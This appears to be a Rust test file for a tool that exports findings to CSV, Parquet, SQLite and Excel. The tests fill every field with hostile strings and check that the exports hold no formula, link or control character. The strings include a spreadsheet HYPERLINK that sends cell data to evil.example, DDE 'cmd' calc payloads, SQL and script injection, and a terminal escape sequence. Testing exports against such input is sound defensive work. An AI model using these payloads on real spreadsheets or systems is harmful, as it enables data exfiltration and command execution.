use std::collections::{BTreeMap, BTreeSet};

use calamine::{Reader, Xlsx};
use jiff::civil::Date;
use parquet::file::reader::{FileReader, SerializedFileReader};
use parquet::record::Field;
use proptest::prelude::*;
use rusqlite::Connection;
use rusqlite::types::ValueRef;
use serde_json::{Map, Value};

use super::*;
use crate::analyze::Findings;
use crate::lexicon::taxonomy::Taxonomy;
use crate::read::reject::Reason;
use crate::render::out::tests::written;
use crate::render::schema::fit::check;
use crate::render::{RejectFacts, findings_json, reject_line, sample};

/// Text that acts somewhere.
const HOSTILE: [&str; 16] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"啤酒\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1",
    " \u{feff}\t=1+1",
    "\u{200b}=1+1",
    "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J",
    "两行\r\n=1+1\n\"引号\", 逗号",
    "\0nul",
    "\u{202e}gnp.exe\u{2028}行",
    "'); DROP TABLE quotes;--",
    "<script>alert(1)</script>&amp;",
    "_x003D_1+1",
    "",
    "NULL",
];

/// The findings of the samples with every text turned hostile.
fn hostile() -> (Findings, Vec<u8>) {
    let mut findings = sample::findings();
    let mut next = HOSTILE.iter().cycle();
    let mut turn = |text: &mut String| *text = (*next.next().expect("endless")).to_owned();
    for quote in &mut findings.quotes {
        turn(&mut quote.text);
        quote.platform.iter_mut().chain(&mut quote.url).for_each(&mut turn);
    }
    for entity in &mut findings.entities {
        turn(&mut entity.label.zh);
        turn(&mut entity.label.en);
        turn(&mut entity.sector);
    }
    for warning in &mut findings.warnings {
        turn(&mut warning.text.en);
    }
    for group in &mut findings.groups {
        turn(&mut group.value);
    }
    findings.meta.platforms = HOSTILE.iter().map(|text| ((*text).to_owned(), 3)).collect();
    findings.quotes[0].text = HOSTILE.concat().repeat(300);
    let mut rejects = Vec::new();
    for (at, detail) in HOSTILE.iter().enumerate() {
        let file = format!("{detail}.csv");
        let reason = Reason::ALL[at];
        let facts = RejectFacts { file: &file, row: 7, line: 12, byte: 3_041, reason, detail, bytes: Some(b"raw") };
        reject_line(&mut rejects, &facts, true);
    }
    (findings, rejects)
}

/// A table whose rows are all in memory.
struct Whole {
    definition: Definition,
    rows: Vec<Vec<Cell>>,
}

/// The tables and the files of some findings.
fn made<T>(findings: &Findings, rejects: &[u8], look: impl FnOnce(&[Whole], &BTreeMap<String, Vec<u8>>) -> T) -> T {
    let taxonomy: Taxonomy = sample::taxonomy();
    let mut tables = Vec::new();
    let files = written(rejects, |folder, rejects| {
        let source = Source::new(findings, &findings_json(findings), &taxonomy, rejects);
        for each in content::all() {
            let table = each.fill(&source);
            let mut rows = Vec::new();
            let mut take = |some: &[Vec<Cell>]| {
                rows.extend_from_slice(some);
                Ok(())
            };
            table.each(&mut take).expect("rows");
            tables.push(Whole { definition: table.definition, rows });
        }
        write_tables(&source, folder).expect("the files");
    });
    look(&tables, &files)
}

/// A cell as every format must give it back.
fn shown(cell: &Cell) -> String {
    match cell {
        Cell::Absent => "∅".to_owned(),
        Cell::Text(text) => text.to_string(),
        Cell::Integer(n) => n.to_string(),
        Cell::Real(figure) => figure.to_string(),
        Cell::Truth(truth) => truth.to_string(),
        Cell::Day(day) => day.to_string(),
    }
}

fn rows_of(table: &Whole) -> Vec<Vec<String>> {
    table.rows.iter().map(|row| row.iter().map(shown).collect()).collect()
}

fn names_of(table: &Whole) -> Vec<&str> {
    table.definition.columns.iter().map(|column| column.name).collect()
}

/// Reliability 99: what a spreadsheet would take for a formula is text.
#[test]
fn csv_gives_back_every_cell_and_holds_no_formula() {
    let (findings, rejects) = hostile();
    made(&findings, &rejects, |tables, files| {
        for table in tables {
            let mut reader = csv::Reader::from_reader(&files[&format!("csv/{}.csv", table.definition.name)][..]);
            assert_eq!(reader.headers().expect("a header").iter().collect::<Vec<_>>(), names_of(table));
            let read: Vec<csv::StringRecord> = reader.records().map(|record| record.expect("CSV")).collect();
            assert_eq!(read.len(), table.rows.len(), "{}", table.definition.name);
            for (record, row) in read.iter().zip(&table.rows) {
                for (field, cell) in record.iter().zip(row) {
                    let text = matches!(cell, Cell::Text(_));
                    assert!(!field.chars().any(|c| c.is_control() || c == '\u{202e}'), "{field:?}");
                    let formula = field.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
                    assert!(!(text && formula), "{field:?} acts");
                    let told = if text { field.strip_prefix('\'').unwrap_or(field) } else { field };
                    let wanted = if *cell == Cell::Absent { String::new() } else { shown(cell) };
                    assert_eq!(told, wanted.strip_prefix('\'').unwrap_or(&wanted));
                }
            }
        }
    });
}

#[test]
fn parquet_gives_back_every_cell() {
    let (findings, rejects) = hostile();
    made(&findings, &rejects, |tables, files| {
        for table in tables {
            let bytes = files[&format!("parquet/{}.parquet", table.definition.name)].clone();
            let reader = SerializedFileReader::new(bytes::Bytes::from(bytes)).expect("Parquet");
            let rows: Vec<Vec<String>> = reader
                .get_row_iter(None)
                .expect("rows")
                .map(|row| row.expect("a row").get_column_iter().map(|(_, field)| parquet_shown(field)).collect())
                .collect();
            assert_eq!(rows, rows_of(table), "{}", table.definition.name);
            let notes = reader.metadata().file_metadata().key_value_metadata().expect("notes");
            assert!(notes.iter().any(|n| n.value.as_deref() == Some(&table.definition.schema())));
        }
    });
}

fn parquet_shown(field: &Field) -> String {
    match field {
        Field::Null => "∅".to_owned(),
        Field::Str(text) => text.clone(),
        Field::Long(n) => n.to_string(),
        Field::Double(figure) => figure.to_string(),
        Field::Bool(truth) => truth.to_string(),
        Field::Date(days) => (Date::constant(1970, 1, 1) + jiff::Span::new().days(*days)).to_string(),
        other => panic!("{other:?}"),
    }
}

#[test]
fn sqlite_gives_back_every_cell_and_every_row_fits_the_schema() {
    let (findings, rejects) = hostile();
    made(&findings, &rejects, |tables, files| {
        let mut base = Connection::open_in_memory().expect("a base");
        base.deserialize_read_exact("main", &files["rival.sqlite"][..], files["rival.sqlite"].len(), true)
            .expect("SQLite");
        let mut document = Map::new();
        for table in tables {
            let (rows, objects) = sqlite_rows(&base, table);
            assert_eq!(rows, rows_of(table), "{}", table.definition.name);
            document.insert(table.definition.name.to_owned(), Value::Array(objects));
        }
        assert_eq!(check(&tables_schema(), &Value::Object(document)), Vec::<String>::new());
        let indexes: i64 = base
            .query_row("select count(*) from sqlite_master where type = 'index'", [], |row| row.get(0))
            .expect("a count");
        assert!(indexes as usize >= tables.len());
    });
}

/// The rows of a table as text and as JSON.
fn sqlite_rows(base: &Connection, table: &Whole) -> (Vec<Vec<String>>, Vec<Value>) {
    let mut select = base.prepare(&format!("SELECT * FROM {} ORDER BY rowid", table.definition.name)).expect("a table");
    assert_eq!(select.column_names().collect::<Vec<_>>(), names_of(table));
    let mut found = select.query([]).expect("rows");
    let (mut rows, mut objects) = (Vec::new(), Vec::new());
    while let Some(row) = found.next().expect("a row") {
        let (mut texts, mut object) = (Vec::new(), Map::new());
        for (at, column) in table.definition.columns.iter().enumerate() {
            let (text, value) = match (row.get_ref(at).expect("a cell"), column.kind) {
                (ValueRef::Null, _) => ("∅".to_owned(), Value::Null),
                (ValueRef::Integer(n), Kind::Truth) => ((n == 1).to_string(), (n == 1).into()),
                (ValueRef::Integer(n), _) => (n.to_string(), n.into()),
                (ValueRef::Real(figure), _) => (figure.to_string(), figure.into()),
                (ValueRef::Text(text), _) => {
                    let text = std::str::from_utf8(text).expect("UTF-8").to_owned();
                    (text.clone(), text.into())
                }
                (ValueRef::Blob(_), _) => panic!("a blob"),
            };
            texts.push(text);
            object.insert(column.name.to_owned(), value);
        }
        rows.push(texts);
        objects.push(Value::Object(object));
    }
    (rows, objects)
}

#[test]
fn the_workbook_gives_back_every_cell_and_holds_no_formula_or_link() {
    let (findings, rejects) = hostile();
    made(&findings, &rejects, |tables, files| {
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(&files["rival.xlsx"])).expect("a workbook");
        assert_eq!(book.sheet_names(), tables.iter().map(|t| t.definition.name.to_owned()).collect::<Vec<_>>());
        for table in tables {
            let name = table.definition.name;
            let formulas = book.worksheet_formula(name).expect("a sheet");
            assert!(formulas.used_cells().next().is_none(), "{name} has a formula");
            let sheet = book.worksheet_range(name).expect("a sheet");
            assert_eq!(sheet.height(), table.rows.len() + 1, "{name}");
            for (at, row) in table.rows.iter().enumerate() {
                for (column, cell) in row.iter().enumerate() {
                    let read = sheet.get((at + 1, column)).unwrap_or(&calamine::Data::Empty);
                    assert_eq!(sheet_shown(read), sheet_wanted(cell), "{name} {at} {column}");
                }
            }
        }
    });
}

fn sheet_shown(cell: &calamine::Data) -> String {
    use calamine::Data;
    match cell {
        Data::Empty => "∅".to_owned(),
        Data::String(text) => text.clone(),
        Data::Float(figure) => figure.to_string(),
        Data::Bool(truth) => truth.to_string(),
        Data::DateTime(day) => day.as_f64().to_string(),
        other => panic!("{other:?}"),
    }
}

/// Days are counted from the end of 1899; long text is cut.
fn sheet_wanted(cell: &Cell) -> String {
    match cell {
        Cell::Day(day) => (day.duration_since(Date::constant(1899, 12, 30)).as_hours() / 24).to_string(),
        Cell::Text(text) if text.is_empty() => "∅".to_owned(),
        Cell::Text(text) if text.chars().count() > 30_000 => text.chars().take(32_766).chain(['…']).collect(),
        other => shown(other),
    }
}

#[test]
fn every_cell_is_of_its_column_and_keys_tell_rows_apart() {
    let (findings, rejects) = hostile();
    made(&findings, &rejects, |tables, _| {
        for Whole { definition, rows } in tables {
            assert!(!rows.is_empty(), "the sample fills {}", definition.name);
            let mut keys = BTreeSet::new();
            for row in rows {
                assert_eq!(row.len(), definition.columns.len());
                for (cell, column) in row.iter().zip(&definition.columns) {
                    let fits = match cell {
                        Cell::Absent => column.optional,
                        Cell::Text(_) => column.kind == Kind::Text,
                        Cell::Integer(_) => column.kind == Kind::Integer,
                        Cell::Real(figure) => column.kind == Kind::Real && figure.is_finite(),
                        Cell::Truth(_) => column.kind == Kind::Truth,
                        Cell::Day(_) => column.kind == Kind::Day,
                    };
                    assert!(fits, "{}.{}: {cell:?}", definition.name, column.name);
                }
                let at = |name: &str| definition.columns.iter().position(|c| c.name == name).expect("a column");
                let key: Vec<String> = definition.key.iter().map(|name| shown(&row[at(name)])).collect();
                assert!(keys.insert(key.clone()), "{} has {key:?} twice", definition.name);
            }
        }
    });
}

#[test]
fn every_citation_leads_to_a_quote_and_every_quote_is_cited() {
    let findings = sample::findings();
    made(&findings, &[], |tables, _| {
        let ids = |table: &str| -> BTreeSet<String> {
            let table = tables.iter().find(|t| t.definition.name == table).expect("a table");
            let at = table.definition.columns.iter().position(|c| c.name == "quote_id").expect("a column");
            table.rows.iter().map(|row| shown(&row[at])).collect()
        };
        assert_eq!(ids("quotes"), ids("citations"));
    });
}

#[test]
fn the_same_findings_give_the_same_bytes() {
    let (findings, rejects) = hostile();
    let once = made(&findings, &rejects, |_, files| files.clone());
    // A clock that ticks would show.
    std::thread::sleep(std::time::Duration::from_millis(1_100));
    assert!(once == made(&findings, &rejects, |_, files| files.clone()));
    let other = Findings { warnings: Vec::new(), ..findings };
    assert!(once["csv/meta.csv"] != made(&other, &rejects, |_, files| files["csv/meta.csv"].clone()), "the run id");
}

#[test]
fn nothing_to_tell_is_a_header_and_no_rows() {
    let mut findings = sample::findings();
    (findings.entities, findings.rivals, findings.subjects) = Default::default();
    (findings.quotes, findings.groups, findings.warnings, findings.outside_option) = Default::default();
    findings.meta.period = None;
    findings.coverage = Default::default();
    made(&findings, &[], |tables, files| {
        assert_eq!(files.len(), 2 * tables.len() + 2);
        let rivals = String::from_utf8(files["csv/rivals.csv"].clone()).expect("UTF-8");
        assert!(rivals.starts_with("schema_version,run_id,subject_kind,") && rivals.lines().count() == 1);
        let bytes = bytes::Bytes::from(files["parquet/rivals.parquet"].clone());
        let reader = SerializedFileReader::new(bytes).expect("Parquet");
        assert_eq!(reader.metadata().file_metadata().num_rows(), 0);
    });
}

#[test]
fn what_is_no_number_is_absent() {
    assert_eq!(Cell::real(f64::NAN), Cell::Absent);
    assert_eq!(Cell::real(f64::NEG_INFINITY), Cell::Absent);
    assert_eq!(shown(&Cell::real(-0.0)), "0");
    assert_eq!(Cell::integer(u64::MAX), Cell::Absent);
    assert_eq!(Cell::day("2024-03"), Cell::Absent);
    assert_eq!(shown(&Cell::month("2024-03-09T08:00:00+08:00")), "2024-03-01");
}

/// Words that some database wants for itself: reserved in SQLite, PostgreSQL, DuckDB, MySQL, SQL Server or Oracle.
const SQL: &str = "abort access add admin after all alter always analyse analyze and any array as asc asymmetric audit authorization \
    autoincrement backup before begin between bigint both break browse bulk by call cascade case cast change char character check \
    checkpoint close cluster clustered coalesce collate column comment commit compress compute concurrently condition conflict connect \
    constraint contains continue convert create cross cube cume_dist current current_date current_time current_timestamp current_user \
    cursor database databases date day day_hour dbcc deallocate dec decimal declare default deferrable deferred delayed delete dense_rank \
    deny desc describe detach disk distinct distinctrow distributed div do double drop dual dump each else elseif empty enclosed end \
    errlvl escape escaped except exclude exclusive exec execute exists exit explain external fail false fetch file fillfactor filter \
    first_value float following for force foreign freetext freeze from full fulltext function generated get glob go goto grant group \
    grouping groups having high_priority holdlock hour identified identity if ignore ilike immediate in increment index indexed infile \
    initial initially inner inout insensitive insert instead int integer intersect interval into is isnull iterate join json_table key \
    keys kill lag lambda last_value lateral lead leading leave left level like limit linear lineno lines load local lock long loop \
    low_priority master match materialized maxextents minus minute mod mode modify month national natural no noaudit nocheck nocompress \
    noneclustered not nothing notnull nowait nth_value ntile null nullif number numeric of off offline offset offsets on online only open \
    optimize option optionally or order others out outer outfile over overlaps partition pctfree percent percent_rank pivot placing plan \
    position pragma preceding precision primary print prior privileges proc procedure public purge qualify query raise raiserror range \
    rank raw read reads real rebuild reconfigure recursive references regexp reindex release rename repeat replace replication require \
    resignal resource restore restrict return returning revoke right rlike role rollback row row_number rowid rownum rows rule save \
    savepoint schema schemas second select separator session session_user set setuser share show shutdown signal similar size smallint \
    some spatial sql start starting statistics stored straight_join successful summarize symmetric synonym sysdate system system_user \
    table tablesample temp temporary terminated text textsize then ties time timestamp tinyint to top trailing tran transaction trigger \
    true truncate tsequal uid unbounded undo union unique unlock unpivot unsigned update updatetext usage use user using vacuum validate \
    value values varchar varchar2 variadic varying verbose view virtual volatile waitfor when whenever where while window with within \
    without write writetext xor year zerofill";

#[test]
fn names_are_plain_and_no_words_of_sql() {
    let sql: BTreeSet<&str> = SQL.split_whitespace().collect();
    let plain = |name: &str| {
        name.starts_with(|c: char| c.is_ascii_lowercase())
            && name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
            && !sql.contains(name)
    };
    let mut tables = BTreeSet::new();
    for table in definitions() {
        // A sheet's name has 31 characters at most, and a second one of the same table ends in ` (2)`.
        assert!(plain(table.name) && table.name.len() <= 26, "{}", table.name);
        assert!(tables.insert(table.name), "{} twice", table.name);
        assert!(!table.doc.is_empty() && !table.doc.contains('\n'));
        let mut columns = BTreeSet::new();
        for column in &table.columns {
            assert!(plain(column.name), "{}.{} is a word of SQL, or not plain", table.name, column.name);
            assert!(columns.insert(column.name), "{}.{} twice", table.name, column.name);
            assert!(!column.doc.is_empty() && !column.doc.contains('\n'), "{}.{}", table.name, column.name);
        }
        for column in table.key.iter().chain(table.indexes.iter().copied().flatten()) {
            assert!(columns.contains(column), "{} has no {column}", table.name);
        }
    }
}

proptest! {
    /// Reliability 99.
    #[test]
    fn any_text_is_inert_in_a_csv(raw in any::<String>(), start in "[ \\t\u{feff}\u{200b}\u{3000}]{0,3}[=+@＝-]?") {
        let Cell::Text(text) = Cell::text(&(start + &raw)) else { panic!("text") };
        let field = write::inert(&text);
        prop_assert!(!field.chars().any(char::is_control));
        let first = field.chars().find(|c| !c.is_whitespace() && !"\u{feff}\u{200b}".contains(*c));
        prop_assert!(!first.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{:?}", field);
        prop_assert_eq!(field.strip_prefix('\'').unwrap_or(&field), text.strip_prefix('\'').unwrap_or(&text));
    }
}
